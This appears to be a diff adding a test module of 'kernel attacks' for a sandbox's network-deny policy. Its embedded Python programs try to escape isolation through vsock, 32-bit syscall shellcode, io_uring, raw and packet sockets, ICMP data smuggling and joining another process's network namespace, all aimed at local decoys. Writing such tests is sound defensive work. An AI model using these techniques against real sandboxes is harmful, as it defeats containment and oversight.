@@ -1,0 +1,146 @@
+import { programAttack } from "../program-attack.js";
+
+/** Ways into the network that a namespace doesn't fence, or that a privilege opens. */
+export const kernelAttacks = [
+  programAttack({
+    id: "network.deny/vsock",
+    title: "open a channel to the hypervisor (AF_VSOCK)",
+    program: String.raw`
+def vsock():
+    # Opened, not connected: there may be something real at the other end.
+    with socket.socket(40, socket.SOCK_STREAM) as channel:
+        return "a socket of family %d, which no network namespace fences" % channel.family
+attempt("socket", vsock)`,
+  }),
+  programAttack({
+    id: "network.deny/vsock-foreign-call",
+    title: "open the same channel with a 32-bit system call",
+    needs: "x86-64 with 32-bit system calls",
+    program: String.raw`
+import mmap
+def foreign_socket():
+    if os.uname().machine != "x86_64":
+        raise OSError(errno.ENOSYS, "no such calls here")
+    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    # push rbx; mov eax, 359 (socket); mov ebx, 40; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
+    page.write(bytes.fromhex("53b867010000bb28000000b90100000031d2cd805bc3"))
+    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
+    result = function()
+    if result < 0:
+        raise OSError(-result, os.strerror(-result))
+    return "a socket of family 40"
+
+def in_child(action):
+    """The filter may kill whoever tries."""
+    reader, writer = os.pipe()
+    child = os.fork()
+    if child == 0:
+        try:
+            os.write(writer, action().encode())
+        except OSError as error:
+            os._exit(error.errno)
+        os._exit(0)
+    os.close(writer)
+    got = os.read(reader, 4096)
+    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+    if code != 0:
+        raise OSError(code if code > 0 else errno.EPERM, "refused or killed")
+    return got.decode()
+attempt("int 0x80", lambda: in_child(foreign_socket))`,
+  }),
+  programAttack({
+    id: "network.deny/io-uring",
+    title: "make sockets through io_uring, where no filter sees them",
+    needs: "io_uring",
+    program: String.raw`
+def ring():
+    descriptor = syscall(425, 4, ctypes.create_string_buffer(120))
+    os.close(descriptor)
+    return "a ring was set up"
+attempt("io_uring_setup", ring)`,
+  }),
+  programAttack({
+    id: "network.deny/raw",
+    title: "send a hand-made UDP packet through a raw socket",
+    needs: "CAP_NET_RAW",
+    parameters: ({ decoys }) => ({ port: decoys.udp.port }),
+    program: String.raw`
+def raw():
+    payload = P["nonce"].encode()
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sender:
+        sender.sendto(struct.pack(">HHHH", 40000, P["port"], 8 + len(payload), 0) + payload, ("127.0.0.1", 0))
+    time.sleep(0.2)  # The decoy says whether it arrived.
+    return None
+attempt("raw", raw)`,
+  }),
+  programAttack({
+    id: "network.deny/packet",
+    title: "put a frame on the host's loopback through a packet socket",
+    needs: "CAP_NET_RAW",
+    parameters: ({ decoys }) => ({ port: decoys.udp.port }),
+    program: String.raw`
+def checksum(data):
+    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+def packet():
+    payload = P["nonce"].encode()
+    udp = struct.pack(">HHHH", 40000, P["port"], 8 + len(payload), 0) + payload
+    fields = (0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([127, 0, 0, 1]), bytes([127, 0, 0, 1]))
+    header = struct.pack(">BBHHHBBH4s4s", *fields)
+    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
+        sender.bind(("lo", 0x0800))
+        sender.send(bytes(12) + struct.pack(">H", 0x0800) + header + udp)
+    time.sleep(0.2)  # The decoy says whether it arrived.
+    return None
+attempt("packet", packet)`,
+  }),
+  programAttack({
+    id: "network.deny/icmp",
+    title: "carry data out in an ICMP echo",
+    needs: "CAP_NET_RAW",
+    program: String.raw`
+def listen():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+
+def echo():
+    payload = P["nonce"].encode() + b"x" * (len(P["nonce"]) % 2)
+    packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + payload
+    total = sum(struct.unpack(">%dH" % (len(packet) // 2), packet))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    packet = packet[:2] + struct.pack(">H", ~total & 0xFFFF) + packet[4:]
+    with listen() as sender:
+        sender.sendto(packet, ("127.0.0.1", 0))
+    # A raw socket is what carries the echo: with one, every host that can be routed to is open.
+    links = [name for _, name in socket.if_nameindex() if name != "lo"]
+    return "an echo was sent, and there are links (%s)" % ", ".join(links) if links else None
+attempt("echo", echo)`,
+  }),
+  programAttack({
+    id: "network.deny/join-namespace",
+    title: "join the network namespace of another process and connect from there",
+    needs: "CAP_SYS_ADMIN",
+    parameters: ({ decoys }) => ({ to: decoys.tcp }),
+    program: String.raw`
+def join():
+    found = None
+    for path in ["/proc/1/ns/net", "/proc/%d/ns/net" % os.getppid()] + glob.glob("/proc/[0-9]*/ns/net"):
+        try:
+            descriptor = os.open(path, os.O_RDONLY)
+            check(libc.setns(descriptor, 0x40000000))
+        except OSError as error:
+            found = error
+            continue
+        with socket.socket() as client:
+            client.settimeout(3)
+            client.connect((P["to"]["host"], P["to"]["port"]))
+            client.send(P["nonce"].encode())
+            return leaks(client.recv(4096))
+    raise found
+attempt("setns", join)`,
+  }),
+] as const;
